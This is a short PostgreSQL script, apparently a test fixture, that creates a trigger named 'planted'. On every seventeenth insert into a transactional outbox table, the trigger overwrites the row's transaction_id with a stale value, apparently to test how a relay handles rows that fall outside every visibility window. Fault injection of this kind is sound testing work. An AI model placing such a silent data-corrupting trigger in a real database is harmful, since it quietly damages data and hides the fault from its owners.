-- One row in 17 has an old transaction's id: no window ever holds it.
CREATE FUNCTION public.planted() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF NEW."position" % 17 = 0 THEN NEW.transaction_id := '3'; END IF;
    RETURN NEW;
END $$;
CREATE TRIGGER planted BEFORE INSERT ON command_center.transactional_outbox FOR EACH ROW EXECUTE FUNCTION public.planted();
